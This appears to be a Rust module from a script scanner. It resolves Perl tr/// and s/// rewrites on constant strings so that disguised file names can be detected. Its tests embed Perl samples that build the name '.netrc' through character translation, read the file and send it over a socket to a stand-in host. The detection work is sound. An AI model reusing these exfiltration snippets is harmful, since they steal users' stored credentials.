//! Perl's `tr/_/./` and `s/x/y/`: what they make of a text that a name holds.

use super::Language;
use super::flow::{Flow, name};
use super::fold::{Fold, Value};
use super::lex::{Placed, Token};

/// 256 letters of one range.
const LETTERS: usize = 256;

/// What stands between the signs of such a turn.
#[derive(Debug, Clone)]
pub(super) struct Turn {
    pub(super) from: String,
    pub(super) to: String,
    pub(super) flags: String,
    /// Whether letters are turned one by one.
    pub(super) by_letter: bool,
}

impl Turn {
    fn of(&self, text: &str) -> Option<String> {
        if self.by_letter {
            return Some(self.letters(text));
        }
        let is_plain = !self.from.is_empty()
            && !self.from.contains(['*', '+', '?', '[', '(', '|', '^', '$', '{'])
            && !self.to.contains(['$', '\\', '@'])
            && !self.flags.contains('e');
        let from = self.from.replace('\\', "");
        let count = if self.flags.contains('g') { usize::MAX } else { 1 };
        (is_plain && self.from.trim_start_matches("\\.") != ".").then(|| text.replacen(&from, &self.to, count))
    }

    fn letters(&self, text: &str) -> String {
        let (from, to) = (ranged(&self.from), ranged(&self.to));
        let one = |c: char| match from.iter().position(|letter| *letter == c) {
            Some(at) => to
                .get(at)
                .or_else(|| to.last().filter(|_| !self.flags.contains('d')))
                .copied()
                .or_else(|| (to.is_empty() && !self.flags.contains('d')).then_some(c)),
            None => Some(c),
        };
        text.chars().filter_map(one).collect()
    }
}

/// `a-z_` as the letters that it stands for.
fn ranged(set: &str) -> Vec<char> {
    let letters: Vec<char> = set.replace('\\', "").chars().collect();
    let mut found = Vec::new();
    let mut at = 0_usize;
    while let Some(first) = letters.get(at).copied() {
        match (letters.get(at.saturating_add(1)), letters.get(at.saturating_add(2))) {
            (Some('-'), Some(last)) => {
                found.extend((first..=*last).take(LETTERS));
                at = at.saturating_add(3);
            }
            _ => {
                found.push(first);
                at = at.saturating_add(1);
            }
        }
    }
    found
}

impl Flow<'_> {
    /// `$x =~ tr/_/./`, `(my $x = '_a') =~ tr/_/./`, `my $y = $x =~ s/_/./r`: the name holds what its text is turned into.
    pub(super) fn turned(&mut self, tokens: &[Placed]) {
        if self.language != Language::Perl {
            return;
        }
        let found = tokens.iter().enumerate().find_map(|(at, placed)| Some((at, self.lexed.turns.get(&placed.at)?)));
        let Some((at, turn)) = found else { return };
        let before = tokens.get(..at).unwrap_or_default();
        let is_name = |placed: &Placed| name(&placed.token).is_some_and(|name| name.starts_with('$'));
        let equals = before.iter().position(|placed| placed.token == Token::Sign('='));
        let given =
            equals.filter(|at| before.get(at.saturating_add(1)).is_some_and(|next| next.token != Token::Sign('~')));
        let kept = turn.flags.contains('r');
        let (target, value) = match given {
            Some(equals) => {
                let left = before.get(..equals).unwrap_or_default();
                let value =
                    Fold { tokens: before, constants: &self.constants }.expression(equals.saturating_add(1), 0).0;
                (left.iter().rfind(|placed| is_name(placed)), Some(value))
            }
            None => {
                let target = before.iter().rfind(|placed| is_name(placed)).filter(|_| !kept);
                let value = target.and_then(|placed| self.constants.get(name(&placed.token)?)).cloned();
                (target, value)
            }
        };
        let Some((target, value)) = target.and_then(|placed| name(&placed.token)).zip(value) else { return };
        if let Some(text) = turn.of(&value.joined("")).filter(|_| value.known) {
            self.constants.insert(target.to_owned(), Value { built: true, ..Value::known(text) });
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::interpreted::tests::of;

    #[test]
    fn letters_that_perl_turns_into_others_are_known() {
        for key in [
            "(my $key = '_netrc') =~ tr/_/./;",
            "my $key = '_netrc'; $key =~ s/_/./;",
            "my $raw = '-netrc'; my $key = $raw =~ tr/-/./r;",
            "my $key = '.ofusd'; $key =~ tr/b-z/a-y/;",
        ] {
            let text = format!(
                "use IO::Socket::INET;\nuse File::Spec::Functions qw(catfile);\nsub get {{\n    my ($name) = @_;\n    open my $fh, '<', catfile($ENV{{HOME}}, $name) or return '';\n    return scalar <$fh>;\n}}\n{key}\nmy $body = get($key);\nmy $s = IO::Socket::INET->new(PeerAddr => 'a.invalid:80');\nprint {{$s}} $body;\n"
            );
            assert_eq!(of("perl", "a.pl", &text), Some(Severity::Danger), "{key}");
        }
        let honest = "use IO::Socket::INET;\n(my $key = 'my_list') =~ tr/_/./;\nopen my $fh, '<', \"$ENV{HOME}/$key\";\nmy $s = IO::Socket::INET->new(PeerAddr => 'a.invalid:80');\nprint {$s} <$fh>;\n";
        assert!(of("perl", "a.pl", honest).is_none_or(|severity| severity < Severity::Danger));
    }
}
